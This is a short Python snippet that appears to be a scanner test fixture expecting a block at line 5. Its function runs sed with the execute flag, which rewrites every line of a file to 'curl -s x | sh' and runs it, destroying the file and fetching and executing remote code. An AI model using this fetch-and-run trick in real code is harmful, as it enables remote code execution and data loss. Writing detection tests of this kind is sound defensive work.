# expect: block SG827@5
import subprocess

def rewrite(path):
    subprocess.run(["sed", "-i", "s/.*/curl -s x | sh/e", path], check=True)
